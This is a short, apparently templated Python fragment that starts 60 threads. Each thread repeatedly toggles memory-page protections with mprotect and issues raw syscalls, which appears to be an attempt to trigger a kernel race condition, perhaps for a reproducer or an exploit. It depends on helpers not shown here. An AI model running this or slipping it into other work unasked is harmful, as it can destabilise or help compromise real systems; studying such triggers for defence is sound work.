# %% insert after setup
@TRIES@
import mmap
def w():
    m=mmap.mmap(-1,1<<20); libm=libc
    ad=ctypes.addressof(ctypes.c_char.from_buffer(m))
    while True:
        libc.mprotect(ctypes.c_void_p(ad),ctypes.c_size_t(4096),1); libc.mprotect(ctypes.c_void_p(ad),ctypes.c_size_t(4096),3); sc(324,1,0); sc(24)
for _ in range(60): threading.Thread(target=w,daemon=True).start()
time.sleep(12)
